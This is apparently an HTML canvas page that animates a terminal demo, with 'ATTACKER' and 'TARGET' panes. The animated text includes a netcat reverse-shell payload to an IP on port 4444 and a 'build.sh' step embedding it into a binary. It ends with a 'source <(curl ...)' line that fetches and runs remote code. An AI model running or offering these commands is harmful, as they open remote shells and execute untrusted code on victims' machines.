
An HTML page with a canvas for the animation above (8 s loop, 1042 by 537 pixels).

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Terminal session</title>
<style>
  html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #282c34; }
  canvas { display: block; }
</style>
</head>
<body>
<canvas id="stage" width="1042" height="537"></canvas>
<script>
const ctx = document.getElementById('stage').getContext('2d');
const W = 1042, H = 537, LOOP = 8000;
const CELL = 6.5625, LINE = 13.14, PANE_TOP = 378, PROMPT = 15;
const FONT = '500 10.93px "Noto Sans Mono", "DejaVu Sans Mono", monospace';
const SELECT_COL = 32, BLINK = 1060;

// Rows appear at `at`; commands are typed evenly between `from` and `to`.
const command = (at, from, to, text) => ({ at, from, to, text, prompt: true });
const output = (at, text) => ({ at, from: at, to: at, text });
const rows = [
  command(0, 0, 40, 'PAYLOAD="`(which nc)` -e /bin/bash 172.20.141.176 4444"'),
  command(3000, 3290, 4240, './build.sh $PAYLOAD .test'),
  output(4360, '[*] Build interpreter'),
  output(4700, '[*] Build shuid with interpreter embeded'),
  command(4980, 5040, 6300, '# transfer shuid on target'),
  command(6370, 6430, 7160, 'gitar -d bin'),
  output(7320, 'Set up gitar exchange on remote:'),
  output(7320, 'source <(curl -s http://172.20.141.176:9292/BuELX9d/alias)'),
  output(7360, '')
];

const approach = { start: 100, end: 600 };
const drag = { start: 600, end: 2600 };
const leave = { start: 7460, end: 7960 };

const progress = (t, start, end) => Math.min(1, Math.max(0, (t - start) / (end - start)));
const mix = (a, b, k) => a + (b - a) * k;
const easeOut = (k, power) => 1 - (1 - k) ** power;
const every100 = (t, offset) => Math.floor((t - offset) / 100) * 100 + offset;

function rect(x, y, w, h, color) {
  ctx.fillStyle = color;
  ctx.fillRect(x, y, w, h);
}

function oval(x, y, rx, ry, color) {
  ctx.fillStyle = color;
  ctx.beginPath();
  ctx.ellipse(x, y, rx, ry, 0, 0, Math.PI * 2);
  ctx.fill();
}

function write(text, col, top) {
  ctx.fillStyle = '#f4f4f4';
  [...text].forEach((ch, i) => {
    if (ch !== ' ') ctx.fillText(ch, (col + i) * CELL, top + 10.3);
  });
}

function face(x, y) {
  oval(x, y + 3, 4.6, 2, '#b9b7ae');
  oval(x, y - 0.8, 3.5, 4, '#d3b548');
  oval(x, y, 2.2, 2.9, '#f0cf78');
}

function flag(x, y) {
  rect(x - 5.5, y - 4.5, 11, 9, '#47426a');
  ctx.strokeStyle = '#f0eef5';
  ctx.lineWidth = 1.3;
  ctx.beginPath();
  for (const side of [-1, 1]) {
    ctx.moveTo(x - 2.3 * side, y - 2.3);
    ctx.lineTo(x + 2.3 * side, y + 2.3);
  }
  ctx.stroke();
}

function pointer({ x, y }) {
  ctx.save();
  ctx.translate(x + 0.5, y);
  const arrow = new Path2D('M0 0V8.6L2 6.9L3.3 9.8L4.6 9.2L3.4 6.4L6 6.2Z');
  ctx.strokeStyle = '#111';
  ctx.lineWidth = 1;
  ctx.stroke(arrow);
  ctx.fillStyle = '#fff';
  ctx.fill(arrow);
  ctx.restore();
}

function mouseAt(t) {
  if (t >= leave.start) {
    const k = progress(t, leave.start, leave.end);
    return { x: mix(475, 38, k), y: mix(389, 493, easeOut(k, 3)) };
  }
  if (t < drag.start) {
    const k = progress(t, approach.start, approach.end);
    return { x: mix(300, 212, k), y: mix(520, 385, k) };
  }
  const k = easeOut(progress(t, drag.start, drag.end), 1.7);
  return { x: mix(212, 476, k), y: mix(384, 388, k) };
}

function drawRow(row, index, t) {
  const top = PANE_TOP + index * LINE;
  const start = row.prompt ? PROMPT : 0;
  if (row.prompt) {
    write('ATTACKER', 0, top);
    flag(68.7, top + 6.4);
    write('>', 13, top);
  }
  const typed = index ? progress(t, row.from, row.to) : 1;
  const count = t >= row.to ? row.text.length : Math.floor(row.text.length * typed);
  write(row.text.slice(0, count), start, top);
  return start + count;
}

function drawCaret(row, index, col, t) {
  const idle = index ? Math.max(0, t - row.to) : t - row.to + BLINK;
  if (idle % BLINK < BLINK / 2) {
    rect(Math.floor(col * CELL), Math.round(PANE_TOP + index * LINE), 1, 13, '#cfd0d2');
  }
}

function draw(t) {
  const active = t >= approach.start;
  rect(0, 0, W, H, '#282c34');
  rect(0, active ? 370.5 : 369, W, 2, active ? '#127eb6' : '#1878cc');
  rect(0, 532, W, 5, '#0c1a50');
  ctx.fillStyle = '#27305a';
  ctx.beginPath();
  ctx.roundRect(active ? 491 : 702, 534, 27, 6, 2);
  ctx.fill();

  const step = every100(t, t < 3000 ? 20 : 60);
  const mouse = mouseAt(step);
  const dragging = step >= drag.start && step <= drag.end + 100;
  if (dragging) {
    const from = SELECT_COL * CELL, to = Math.round(mouse.x / CELL) * CELL;
    rect(from, PANE_TOP - 0.5, Math.max(0, Math.min(to, 70 * CELL) - from), 13.2, '#949699');
  }

  ctx.font = FONT;
  write('TARGET', 0, 1.4);
  face(52.3, 8);
  write('>', 10, 1.4);

  let last = 0, col = 0;
  rows.forEach((row, i) => {
    if (t < row.at) return;
    last = i;
    col = drawRow(row, i, t);
  });
  drawCaret(rows[last], last, col, t);

  if (dragging) oval(mouse.x, mouse.y, 8, 8, 'rgba(200, 185, 0, 0.75)');
  if ((active && t < 3000) || step >= leave.start) pointer(mouse);
}

function tick() {
  draw(performance.now() % LOOP);
  requestAnimationFrame(tick);
}
tick();
</script>
</body>
</html>
```
